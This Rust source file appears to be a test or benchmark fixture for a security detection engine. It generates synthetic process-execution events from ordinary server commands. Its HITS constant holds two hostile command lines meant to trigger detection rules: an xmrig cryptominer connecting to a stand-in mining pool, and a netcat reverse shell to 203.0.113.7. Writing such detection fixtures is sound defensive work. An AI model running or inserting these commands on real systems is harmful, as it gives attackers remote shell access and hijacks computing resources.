//! Programs being executed, as on a busy server: shells, compilers, package managers, container runtimes.

use std::sync::Arc;

use fastrand::Rng;
use rampart_model::{Action, Event, EventKind, Process, ProcessKey, Record, User};
use rampart_testkit::sample;
use serde_json::Value as Json;

use super::one_of;

/// How many different events there are.
pub const EVENTS: usize = 200;

/// Each so many-th of the events with matches is one.
const ONE_IN: usize = 100;

/// Program, and a form of its arguments in which `@` is another word each time.
const COMMANDS: [(&str, &str); 28] = [
    ("/usr/bin/bash", "bash -c cd /srv/@ && exec ./run.sh --config /etc/@/@.toml --log-level info"),
    ("/bin/sh", "sh -c test -x /usr/sbin/@ && /usr/sbin/@ --quiet --daily"),
    ("/usr/bin/dash", "/bin/sh /usr/lib/apt/apt.systemd.daily update"),
    (
        "/usr/bin/bash",
        "/bin/bash /usr/local/bin/@-backup.sh --target s3://@/@ --since yesterday --compress zstd",
    ),
    (
        "/usr/libexec/gcc/x86_64-linux-gnu/13/cc1",
        "cc1 -quiet -I /usr/include/@ -D_GNU_SOURCE -D@_VERSION=\"3.1.@\" -O2 -g -fstack-protector-strong -Wall -Wformat-security src/@/@.c -o /tmp/cc@.s -MMD build/@.d -MF build/@.dep -fPIC -march=x86-64-v2",
    ),
    ("/usr/bin/x86_64-linux-gnu-gcc-13", "gcc -O2 -g -Wall -I include -c src/@.c -o build/@.o"),
    (
        "/usr/bin/x86_64-linux-gnu-ld.bfd",
        "ld -plugin liblto_plugin.so -o build/@ build/@.o build/@.o build/@.o -L /usr/lib/x86_64-linux-gnu -lssl -lcrypto -lz -lpthread --as-needed --build-id",
    ),
    ("/usr/bin/make", "make -j 8 -C /home/ci/build/@ all test"),
    (
        "/home/ci/.cargo/bin/rustc",
        "rustc --crate-name @ --edition=2021 src/lib.rs --error-format=json --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 -C metadata=@ -C extra-filename=-@ --out-dir /home/ci/target/release/deps -L dependency=/home/ci/target/release/deps --extern serde=libserde-@.rmeta",
    ),
    ("/usr/bin/apt-get", "apt-get -y -o Dpkg::Options::=--force-confold install @ lib@-dev"),
    ("/usr/bin/dpkg", "dpkg --status-fd 21 --configure --pending"),
    ("/usr/bin/dpkg-deb", "dpkg-deb --fsys-tarfile /var/cache/apt/archives/@_1.2-3_amd64.deb"),
    ("/usr/bin/rpm", "rpm -q --queryformat %{VERSION} @"),
    (
        "/usr/sbin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/@/log.json --log-format json exec --process /tmp/runc-process@ --detach --pid-file /run/containerd/@.pid @",
    ),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id @ -address /run/containerd/containerd.sock",
    ),
    ("/usr/bin/docker", "docker compose -f /srv/@/compose.yaml up -d --remove-orphans"),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /opt/@/worker.py --queue @ --concurrency 4 --broker redis://@:6379/0",
    ),
    ("/usr/bin/python3.11", "python3 -m pip install --upgrade @ @"),
    ("/usr/bin/node", "node --max-old-space-size=4096 /srv/@/dist/server.js --port 8080"),
    ("/usr/bin/curl", "curl -fsS --retry 3 -H Authorization: Bearer @ https://api.@.example/v1/@?limit=100"),
    (
        "/usr/bin/git",
        "git -c protocol.version=2 fetch --no-tags --prune origin +refs/heads/@:refs/remotes/origin/@",
    ),
    ("/usr/bin/grep", "grep -rn --include=*.log @ /var/log/@"),
    ("/usr/bin/find", "find /var/spool/@ -type f -mtime +7 -name *.tmp -delete"),
    ("/usr/bin/tar", "tar --create --zstd --file /backup/@.tar.zst --exclude ./cache --directory /srv @"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes -o ConnectTimeout=5 deploy@host systemctl is-active @"),
    ("/usr/bin/systemctl", "systemctl --quiet is-enabled @.service"),
    ("/usr/lib/postgresql/16/bin/psql", "psql -h 127.0.0.1 -U @ -d @ -c select count(*) from @"),
    ("/usr/bin/sed", "sed -i s/@/@/g /etc/@/@.conf"),
];

const PARENTS: [(&str, &str); 10] = [
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
    ("/usr/bin/make", "make -j 8 all"),
    ("/usr/sbin/sshd", "sshd: deploy@notty"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -address /run/containerd/containerd.sock",
    ),
    ("/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"),
    ("/home/ci/.cargo/bin/cargo", "cargo build --release --locked"),
    ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/supervisord -n"),
    ("/usr/sbin/nginx", "nginx: worker process"),
];

const WORDS: [&str; 20] = [
    "billing", "gateway", "metrics", "search", "orders", "mailer", "frontend", "cache", "report", "auth",
    "ingest", "archive", "catalog", "payment", "session", "worker", "index", "media", "tenant", "audit",
];

/// What matches, on the two rules that every set begins with.
const HITS: [(&str, &str); 2] = [
    ("/tmp/.cache/xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u 44AFFq5 -k --donate-level 1"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 9001"),
];

/// Which events.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// No rule matches any of them.
    Quiet,
    /// One percent of them match.
    Matching,
}

/// One event in every form that an engine takes.
#[derive(Debug)]
pub struct Sample {
    /// As the daemon has it.
    pub event: Event,
    /// As `rules eval` reads it.
    pub record: Record,
    /// With the same fields, for the peers.
    pub json: Json,
}

/// The events.
#[must_use]
pub fn samples(kind: Kind) -> Vec<Sample> {
    let mut rng = Rng::with_seed(200);
    (0..EVENTS).map(|number| sample(&mut rng, kind, number)).collect()
}

fn sample(rng: &mut Rng, kind: Kind, number: usize) -> Sample {
    let (image, line) = COMMANDS[number % COMMANDS.len()];
    let line = filled(rng, line);
    let (image, line) = match kind {
        Kind::Matching if number % ONE_IN == ONE_IN / 2 => {
            let (image, line) = HITS[number / ONE_IN % HITS.len()];
            (image, line.to_owned())
        }
        Kind::Matching | Kind::Quiet => (image, line),
    };
    let event = Event {
        process: Arc::new(process(rng, image, &line)),
        action: Action::Exec,
        ..sample::event(EventKind::Exec)
    };
    let record = Record::from(&event);
    let json = record.to_json();
    Sample { event, record, json }
}

fn filled(rng: &mut Rng, form: &str) -> String {
    let mut pieces = form.split('@');
    let mut line = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        line += one_of(rng, WORDS);
        line += piece;
    }
    line
}

fn process(rng: &mut Rng, image: &str, line: &str) -> Process {
    let base = sample::process();
    let (parent_image, parent_line) = one_of(rng, PARENTS);
    let user =
        one_of(rng, [("root", 0), ("www-data", 33), ("ci", 1001), ("deploy", 1002), ("postgres", 114)]);
    let user = User { id: user.1, name: Some(user.0.into()) };
    let container = if rng.u32(0..3) == 0 { base.container.clone() } else { None };
    let parent = Process {
        key: ProcessKey::new(rng.u32(2..40_000), rng.u64(1..1 << 40)),
        name: name(parent_image),
        executable: parent_image.into(),
        args: parent_line.split(' ').collect(),
        working_directory: "/".into(),
        user: user.clone(),
        container: container.clone(),
        ..base.clone()
    };
    Process {
        key: ProcessKey::new(rng.u32(40_000..4_000_000), rng.u64(1 << 40..1 << 41)),
        name: name(image),
        executable: image.into(),
        args: line.split(' ').collect(),
        working_directory: format!("/srv/{}", one_of(rng, WORDS)).into(),
        effective_user_id: user.id,
        group_id: user.id,
        login_user_id: Some(1000),
        user,
        container,
        parent: Some(Arc::new(parent)),
        ..base
    }
}

/// As the kernel cuts it.
fn name(image: &str) -> Box<str> {
    let last = image.rsplit('/').next().unwrap_or_default();
    last.chars().take(15).collect::<String>().into()
}
